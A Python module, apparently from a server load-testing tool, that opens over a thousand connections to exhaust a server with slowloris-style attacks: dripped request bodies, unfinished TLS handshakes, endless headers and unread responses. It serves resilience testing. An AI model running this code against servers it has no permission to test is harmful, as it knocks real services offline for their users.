"""Strangers that occupy a server's connections, in their own process; for `load_serve.py --attack`.

A stranger that loses its connection opens another one at once.
"""

from __future__ import annotations

import asyncio
import contextlib
import multiprocessing
import os
import resource
import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from multiprocessing.context import SpawnProcess
from typing import Any

_LOWER_PRIORITY = 10
_DRIP_S = 7.6
"""1,010 clients that send a byte in this time send 133 bytes a second together."""
_UNREAD_S = 25.0
_RETRY_S = 0.01
_APART_S = 0.01
_START_S = 30.0
_SMALLEST_BUFFER = 2048


@dataclass(frozen=True)
class Attack:
    """What each of many connections does.

    Attributes:
        name: For the output.
        connections: How many.
        tls: Whether the server uses TLS.
        head: What each sends first; ``{host}`` is replaced.
        drips: Whether a byte follows now and then.
        reads: Whether they read what the server sends.
    """

    name: str
    connections: int
    tls: bool
    head: str
    drips: bool = False
    reads: bool = True


ATTACKS = (
    Attack(
        name="bodies that drip",
        connections=1010,
        tls=False,
        head="POST /api/v1/session HTTP/1.1\r\nHost: {host}\r\nOrigin: http://{host}\r\n"
        "Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n",
        drips=True,
    ),
    Attack(name="handshakes that never end", connections=1100, tls=True, head="\x16\x03\x01"),
    Attack(
        name="heads that never end",
        connections=1010,
        tls=False,
        head="GET / HTTP/1.1\r\nX: ",
        drips=True,
    ),
    Attack(
        name="answers that nobody reads",
        connections=1010,
        tls=False,
        head="GET /static/texts.de.json HTTP/1.1\r\nHost: {host}\r\n\r\n",
        reads=False,
    ),
)


@dataclass(frozen=True)
class Attackers:
    """The process of the attackers.

    Attributes:
        process: It.
        count: How often they have connected.
    """

    process: SpawnProcess
    count: Any

    @property
    def pid(self) -> int:
        return self.process.pid or 0

    @property
    def connects(self) -> int:
        return int(self.count.value)


@contextmanager
def attacking(attack: Attack, address: str, port: int) -> Iterator[Attackers]:
    """Attackers run in this block.

    Raises:
        RuntimeError: They did not come, or did not stay.
    """
    context = multiprocessing.get_context("spawn")
    count = context.Value("L", 0)
    process = context.Process(target=_run, args=(attack, address, port, count), daemon=True)
    process.start()
    until = time.monotonic() + _START_S
    while count.value < attack.connections and time.monotonic() < until and process.is_alive():
        time.sleep(0.05)
    try:
        if count.value < attack.connections:
            raise RuntimeError(f"{count.value:,} of {attack.connections:,} {attack.name} connected")
        yield Attackers(process, count)
        if not process.is_alive():
            raise RuntimeError(f"the process of {attack.name} ended before its time")
    finally:
        process.kill()
        process.join()


def _run(attack: Attack, address: str, port: int, count: Any) -> None:
    os.nice(_LOWER_PRIORITY)  # what attackers cost on this machine is no cost of the server
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    async def all_of_them() -> None:
        await asyncio.gather(
            *(_attack(attack, address, port, count, i) for i in range(attack.connections))
        )

    asyncio.run(all_of_them())


async def _attack(attack: Attack, address: str, port: int, count: Any, number: int) -> None:
    head = attack.head.format(host=f"{address}:{port}").encode("latin-1")
    loop = asyncio.get_running_loop()
    if not attack.reads:  # complete requests, which all at once would be a flood
        await asyncio.sleep(number * _APART_S)
    while True:
        with socket.socket() as line, contextlib.suppress(OSError):
            line.setblocking(False)
            if not attack.reads:
                line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALLEST_BUFFER)
            await loop.sock_connect(line, (address, port))
            count.value += 1
            await loop.sock_sendall(line, head)
            if not attack.reads:
                await asyncio.sleep(_UNREAD_S)
            elif await _hold(loop, line, drips=attack.drips):
                continue
        await asyncio.sleep(_RETRY_S)


async def _hold(loop: asyncio.AbstractEventLoop, line: socket.socket, *, drips: bool) -> bool:
    """Holds a connection until the server closes it."""
    while True:
        try:
            if not await asyncio.wait_for(loop.sock_recv(line, 4096), _DRIP_S):
                return True
        except TimeoutError:
            if drips:
                await loop.sock_sendall(line, b"x")
